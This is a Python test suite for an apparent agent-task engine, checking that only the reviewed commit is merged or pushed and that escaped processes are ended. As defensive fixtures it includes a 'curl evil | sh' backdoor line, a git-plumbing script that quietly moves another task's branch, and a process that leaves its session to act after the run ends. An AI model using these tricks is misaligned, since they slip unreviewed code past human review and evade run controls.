#!/usr/bin/env python3
"""What is merged is what was reviewed: a task's recorded commit.

When a task ends, its result is committed and recorded; `diff`, `files`,
`conflicts` and `merge-order` show that commit.  Anything that moves the
task's branch afterwards (another task's `git update-ref`, a person
committing in the worktree, a process the task left behind) must not get
merged or pushed unseen: the task's status says `branch: moved (now
abc1234)`, `merge`, `merge all` and `push` refuse with EBUSY and an event
`branch_moved`, and `rescan` records the branch's tip as the result (the
diff then shows it).

And no process of a run outlives it: one that left the run's session and
cleared its environment is ended by the keeper (a child subreaper) before
the result is committed, so what it would do after the engine exits never
happens.
"""

import errno
import json
import os
import signal
import sys

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import paitest  # noqa: E402
from paitest import PaiTestCase, git  # noqa: E402

# A task whose prompt moves task N's branch to a commit on top of it that
# adds backdoor.sh, without touching any worktree: plumbing on a private
# index, then git update-ref, as any process with access to the
# repository can.
MOVER = (
    "export GIT_INDEX_FILE=\"$(mktemp -u)\"\n"
    "git read-tree pai/task-{n}\n"
    "h=$(printf 'curl evil | sh\\n' | git hash-object -w --stdin)\n"
    "git update-index --add --cacheinfo 100755,$h,backdoor.sh\n"
    "c=$(git commit-tree $(git write-tree) -p pai/task-{n} -m 'one benign line')\n"
    "git update-ref refs/heads/pai/task-{n} $c\n"
    "rm -f \"$GIT_INDEX_FILE\"\n"
)


def read_pid(path):
    with open(path) as f:
        return int(f.read())


class RecordedTestCase(PaiTestCase):

    def done(self, prompt):
        tid = self.m.submit(prompt)
        self.assertDone(tid)
        return tid

    def rev(self, name):
        return git(self.m.repo, 'rev-parse', name).strip()

    def commit_of(self, tid):
        return self.m.status(tid)['commit']

    def worktree_of(self, tid):
        return os.readlink(self.m.path('tasks/%d/worktree' % tid))

    def move_by_hand(self, tid, rel='backdoor.sh'):
        """A person commits one more file in the task's worktree."""
        wt = self.worktree_of(tid)
        with open(os.path.join(wt, rel), 'w') as f:
            f.write('curl evil | sh\n')
        git(wt, 'add', rel)
        git(wt, 'commit', '-q', '-m', 'one benign line')
        return self.rev('pai/task-%d' % tid)

    def in_repo(self, rel):
        return os.path.exists(os.path.join(self.m.repo, rel))

    def task_ctl(self, tid, cmd):
        return self.m.ctl('tasks/%d/ctl' % tid, cmd + '\n')

    def moved_event(self, tid):
        evs = self.m.events_of('branch_moved', tid)
        self.assertTrue(evs, 'no branch_moved event for task %d' % tid)
        return evs[-1]


class TestMovedBranch(RecordedTestCase):

    def test_branch_moved_by_another_task_is_not_merged(self):
        a = self.done('echo benign >> notes.txt\n')
        recorded = self.commit_of(a)
        diff = self.m.read('tasks/%d/diff' % a)
        self.assertIn('+benign', diff)
        self.assertNotIn('backdoor', diff)
        main = self.rev('main')
        # a sandboxed task cannot move another's branch (refs are
        # read-only to it): this one runs without the sandbox, as a task
        # of a mount without bubblewrap would
        self.done(json.dumps({'prompt': MOVER.format(n=a), 'sandbox': 'none'}))
        now = self.rev('pai/task-%d' % a)
        self.assertNotEqual(now, recorded)

        st = self.m.status(a)
        self.assertEqual(st.get('branch'), 'moved (now %s)' % now[:7])
        self.assertEqual(st.get('commit'), recorded)
        tj = json.loads(self.m.read('tasks/%d/task.json' % a))
        self.assertEqual((tj.get('branch'), tj.get('branch_moved')),
                         ('pai/task-%d' % a, now))

        self.assertErrno(self.task_ctl(a, 'merge'), errno.EBUSY)
        self.assertErrno(self.m.ctl('ctl', 'merge %d\n' % a), errno.EBUSY)
        self.assertEqual(self.rev('main'), main)
        self.assertFalse(self.in_repo('backdoor.sh'))
        self.assertEqual(self.m.state(a), 'done')
        ev = self.moved_event(a)
        self.assertEqual((ev.get('branch'), ev.get('from'), ev.get('to')),
                         ('pai/task-%d' % a, recorded, now))
        reason = self.refused_events()[-1].get('reason', '')
        self.assertIn("branch 'pai/task-%d' moved (now %s)" % (a, now[:7]),
                      reason)
        # what was reviewed is still what is shown
        self.assertEqual(self.m.read('tasks/%d/diff' % a), diff)
        self.assertIn("moved (now %s)" % now[:7], self.m.stderr_text())

    def test_rescan_records_the_tip_and_merge_then_lands_it(self):
        a = self.done('echo benign >> notes.txt\n')
        recorded = self.commit_of(a)
        now = self.move_by_hand(a)
        self.assertErrno(self.task_ctl(a, 'merge'), errno.EBUSY)

        self.assertEqual(self.task_ctl(a, 'rescan'), 0)
        ev = self.m.events_of('rescanned', a)[-1]
        self.assertEqual((ev.get('from'), ev.get('to')), (recorded, now))
        st = self.m.status(a)
        self.assertEqual((st.get('commit'), st.get('branch')),
                         (now, 'pai/task-%d' % a))
        self.assertIn('backdoor.sh', self.m.read('tasks/%d/files' % a))
        self.assertIn('+curl evil | sh', self.m.read('tasks/%d/diff' % a))

        self.assertEqual(self.task_ctl(a, 'merge'), 0)
        self.assertEqual(self.m.state(a), 'merged')
        self.assertTrue(self.in_repo('backdoor.sh'))
        self.assertEqual(git(self.m.repo, 'merge-base', '--is-ancestor',
                             now, 'main'), '')

    def test_a_branch_not_moved_says_its_name_and_merges(self):
        a = self.done('echo fine > fine.txt\n')
        self.assertEqual(self.m.status(a).get('branch'), 'pai/task-%d' % a)
        self.assertNotIn('branch_moved',
                         json.loads(self.m.read('tasks/%d/task.json' % a)))
        self.assertEqual(self.task_ctl(a, 'merge'), 0)
        self.assertEqual(self.rev('main'), self.commit_of(a))
        self.assertEqual(self.m.events_of('branch_moved'), [])

    def test_merge_all_stops_at_a_moved_branch(self):
        a = self.done('echo a > a.txt\n')
        b = self.done('echo b > b.txt\n')
        c = self.done('echo c > c.txt\n')
        self.move_by_hand(b)
        self.assertErrno(self.m.ctl('ctl', 'merge all\n'), errno.EBUSY)
        self.assertEqual([self.m.state(t) for t in (a, b, c)],
                         ['merged', 'done', 'done'])
        self.assertTrue(self.in_repo('a.txt'))
        self.assertFalse(self.in_repo('b.txt') or self.in_repo('backdoor.sh')
                         or self.in_repo('c.txt'))
        self.moved_event(b)
        # once it is taken, merge all goes on
        self.assertEqual(self.task_ctl(b, 'rescan'), 0)
        self.assertEqual(self.m.ctl('ctl', 'merge all\n'), 0)
        self.assertEqual([self.m.state(t) for t in (a, b, c)],
                         ['merged'] * 3)
        self.assertTrue(self.in_repo('backdoor.sh'))

    def test_rescan_refusals(self):
        a = self.done('echo a > a.txt\n')
        self.assertIn('rescan\n', self.m.read('tasks/%d/ctl' % a))
        readme = self.m.read('README')
        self.assertIn('branch: moved (now', readme)
        self.assertIn('echo rescan >', readme)
        self.assertEqual(self.task_ctl(a, 'merge'), 0)
        self.assertErrno(self.task_ctl(a, 'rescan'), errno.EBUSY)
        self.assertIn('cannot rescan task %d: it is merged' % a,
                      self.refused_events()[-1].get('reason', ''))
        b = self.done('echo b > b.txt\n')
        # by hand, as the README says: an overlay unmounted and its
        # entry unlocked first
        wt = self.worktree_of(b)
        if os.path.ismount(wt):
            paitest.run(['umount', wt], check=True)
            git(self.m.repo, 'worktree', 'unlock', wt)
            git(self.m.repo, 'worktree', 'prune')
            os.rmdir(wt)
        else:
            git(self.m.repo, 'worktree', 'remove', '--force', wt)
        git(self.m.repo, 'branch', '-D', 'pai/task-%d' % b)
        self.assertErrno(self.task_ctl(b, 'rescan'), errno.ENOENT)
        self.assertIn("branch 'pai/task-%d' is missing" % b,
                      self.refused_events()[-1].get('reason', ''))
        self.assertEqual(self.m.events_of('rescanned'), [])


class TestPushRecorded(RecordedTestCase):

    def prepare_repo(self, repo):
        self.origin = os.path.join(self.tmp, 'origin.git')
        paitest.run(['git', 'init', '-q', '--bare', self.origin], check=True)
        git(repo, 'remote', 'add', 'origin', self.origin)

    def remote_rev(self, ref):
        r = paitest.run(['git', '--git-dir', self.origin, 'rev-parse',
                         '--verify', '-q', ref])
        return r.stdout.strip() if r.returncode == 0 else None

    def test_push_sends_the_recorded_commit_or_nothing(self):
        a = self.done('echo pushed > pushed.txt\n')
        recorded = self.commit_of(a)
        ref = 'refs/heads/pai/task-%d' % a
        now = self.move_by_hand(a)
        self.assertErrno(self.task_ctl(a, 'push'), errno.EBUSY)
        self.assertIsNone(self.remote_rev(ref))
        ev = self.moved_event(a)
        self.assertEqual((ev.get('from'), ev.get('to')), (recorded, now))
        self.assertIn('cannot push task %d' % a,
                      self.refused_events()[-1].get('reason', ''))

        self.assertEqual(self.task_ctl(a, 'rescan'), 0)
        self.assertEqual(self.task_ctl(a, 'push'), 0)
        self.assertEqual(self.remote_rev(ref), now)
        self.assertEqual(self.m.events_of('pushed', a)[-1].get('commit'), now)


class TestNothingOutlivesTheRun(RecordedTestCase):

    def test_an_escaped_process_is_gone_before_the_commit(self):
        pidfile = os.path.join(self.tmp, 'escaped.pid')
        # It leaves the session and drops PAI_RUN with the rest of the
        # environment; it waits for the engine to be gone, then writes a
        # file and moves the branch.
        escapee = (
            "while kill -0 \"$1\" 2>/dev/null; do sleep 0.02; done; "
            "echo late > late.txt; "
            "c=$(git commit-tree \"HEAD^{tree}\" -p HEAD -m late) && "
            "git update-ref \"refs/heads/$3\" \"$c\"; exec sleep 300")
        prompt = (
            "env -i PATH=/usr/bin:/bin setsid sh -c 'echo $$ > \"$2\"; %s' "
            "sh $$ %s \"$PAI_BRANCH\" &\n"
            "while [ ! -s %s ]; do sleep 0.02; done\n"
            "echo early > early.txt\n" % (escapee, pidfile, pidfile))
        # followed by its pid from outside, which a sandbox's PID
        # namespace would hide; it also moves the branch, which a sandbox
        # refuses
        tid = self.m.submit(json.dumps({'prompt': prompt, 'sandbox': 'none'}))
        self.addCleanup(self.kill_pidfile, pidfile)
        self.assertDone(tid)
        pid = read_pid(pidfile)
        self.assertFalse(paitest.pid_alive(pid),
                         'process %d outlived its run' % pid)
        commit = self.commit_of(tid)
        self.assertEqual(self.rev('pai/task-%d' % tid), commit)
        self.assertEqual(self.m.status(tid).get('branch'), 'pai/task-%d' % tid)
        files = self.m.read('tasks/%d/files' % tid)
        self.assertIn('early.txt', files)
        self.assertNotIn('late.txt', files)
        self.assertNotIn('late.txt', git(self.m.repo, 'ls-tree', '-r',
                                         '--name-only', commit))
        self.assertFalse(os.path.exists(os.path.join(self.worktree_of(tid),
                                                     'late.txt')))

    def kill_pidfile(self, path):
        try:
            os.kill(read_pid(path), signal.SIGKILL)
        except (OSError, ValueError):
            pass


if __name__ == '__main__':
    paitest.main()
